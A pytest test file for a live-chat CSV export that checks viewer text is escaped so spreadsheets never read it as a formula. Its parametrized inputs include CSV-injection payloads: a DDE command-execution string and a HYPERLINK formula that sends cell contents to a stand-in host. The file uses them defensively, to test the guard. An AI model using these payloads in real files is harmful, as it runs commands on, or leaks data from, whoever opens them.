"""CSV as a spreadsheet reads it."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.examples import ENTRIES, QUESTIONS, entry, summary
from livedesk.events import Comment, Viewer
from livedesk.exports import export
from livedesk.exports.csv import guarded


def rows(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def comment_cells(text: str, viewer: Viewer | None = None) -> dict[str, str]:
    header, row = rows(b"".join(export("log", "csv", [entry(1, Comment(text), viewer)], names=True)))
    return dict(zip(header, row, strict=True))


def test_the_file_begins_with_the_mark_of_utf_8_and_its_lines_end_in_crlf() -> None:
    file = b"".join(export("log", "csv", ENTRIES))
    assert file.startswith(b"\xef\xbb\xbfseq,kind,at,")
    assert file.endswith(b"\r\n")
    assert file.count(b"\r\n") == len(ENTRIES) + 1


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\x00=1+1",
        "\x1b=1+1",
        "\ufeff=1+1",
        "＝1+1",
        '=HYPERLINK("http://x?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_no_text_of_a_viewer_becomes_a_formula(formula: str) -> None:
    cells = comment_cells(formula, Viewer("k", formula, formula))
    assert [cells[column][0] for column in ("text", "handle", "nickname")] == ["'", "'", "'"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("jam buka;=1+1", "jam buka;'=1+1"),
        ("a;-1", "a;'-1"),
        ("makasih ;-)", "makasih ;-)"),
        ("a; b", "a; b"),
    ],
)
def test_what_stands_after_a_semicolon_is_guarded_for_spreadsheets_that_split_there(
    text: str, cell: str
) -> None:
    assert comment_cells(text)["text"] == cell


@given(st.text(max_size=30) | st.text(alphabet="=+-@\t\r\n; a'\"", max_size=12))
def test_no_cell_and_no_part_of_one_begins_like_a_formula(text: str) -> None:
    cell = guarded(text)
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert not any(part[:1] in {"=", "+", "@"} for part in cell.split(";"))


@pytest.mark.parametrize("text", ['kata "buku"', "a, b", "dua\r\nbaris", "książka 📚👩‍🏫", "'", "", "8,5"])
def test_text_that_is_no_formula_comes_back_as_it_was(text: str) -> None:
    assert comment_cells(text)["text"] == text


def test_control_characters_do_not_reach_a_terminal() -> None:
    assert comment_cells("a\x1b[2Jb\x07\x9b1m")["text"] == "a[2Jb1m"


def test_numbers_stay_numbers_and_what_is_unknown_is_empty() -> None:
    by_figure = {row[0]: row for row in rows(b"".join(export("summary", "csv", {**summary(), "likes": -3})))}
    assert by_figure["likes"][1] == "-3"
    assert by_figure["participation_rate"][1] == ""


def test_a_log_row_is_what_the_entry_says() -> None:
    cells = {key: value for key, value in comment_cells("halo", Viewer("k", "h", "n")).items() if value}
    assert cells == {
        "seq": "1",
        "kind": "comment",
        "at": "2026-11-21T19:00:01.000Z",
        "received_at": "2026-11-21T19:00:01.080Z",
        "viewer": "k",
        "handle": "h",
        "nickname": "n",
        "message_id": "m1",
        "history": "false",
        "text": "halo",
        "role": "viewer",
    }


def test_a_question_row_is_what_the_question_says() -> None:
    header, row, _ = rows(b"".join(export("questions", "csv", QUESTIONS)))
    assert dict(zip(header, row, strict=True)) == {
        "id": "2",
        "text": "kak @… perpus buka sabtu gak?",
        "language": "id",
        "topic": "hours",
        "kind": "question",
        "status": "answered",
        "asked_at": "2026-11-21T19:00:00.000Z",
        "answered_at": "2026-11-21T19:01:35.500Z",
        "response_seconds": "95.5",
        "askers": "2",
        "comments": "2 9",
        "asked_again_at": "",
        "score": "0.9",
        "why": "ends in gak",
        "typed": "0",
        "pinned": "false",
        "hints": "1",
        "variants": "sabtu buka @…?",
    }


def test_every_rate_of_the_summary_has_the_coverage_and_every_row_the_definition_beside_it() -> None:
    header, *figures = rows(b"".join(export("summary", "csv", summary())))
    assert header == ["figure", "value", "unit", "coverage", "definition", "note", "definitions_version"]
    by_name = {row[0]: row for row in figures}
    assert by_name["answer_rate"][3] == by_name["coverage"][1]
    assert by_name["likes"][3] == ""
    assert all(row[4] and row[6] == "1" for row in figures)
